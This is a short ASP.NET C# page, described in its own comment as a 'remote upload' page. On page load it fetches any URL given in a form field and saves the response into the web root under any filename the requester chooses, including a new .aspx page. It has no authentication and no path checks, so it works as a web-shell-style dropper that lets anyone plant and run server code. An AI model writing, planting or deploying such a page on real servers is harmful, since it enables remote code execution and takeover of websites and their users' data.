<%@ Page Language="C#" %>
<%-- A "remote upload" page: the server fetches the address the request gives and stores the
     answer in the web root under the name the request gives (a .aspx next to this page). --%>
<script runat="server">
    protected void Page_Load(object sender, EventArgs e)
    {
        string from = Request.Form["src"], to = Request.Form["dst"];
        if (!String.IsNullOrEmpty(from) && !String.IsNullOrEmpty(to))
        {
            using (var wc = new System.Net.WebClient())
            {
                wc.DownloadFile(from, Server.MapPath("~/" + to));
            }
            Response.Write("saved " + to);
        }
    }
</script>
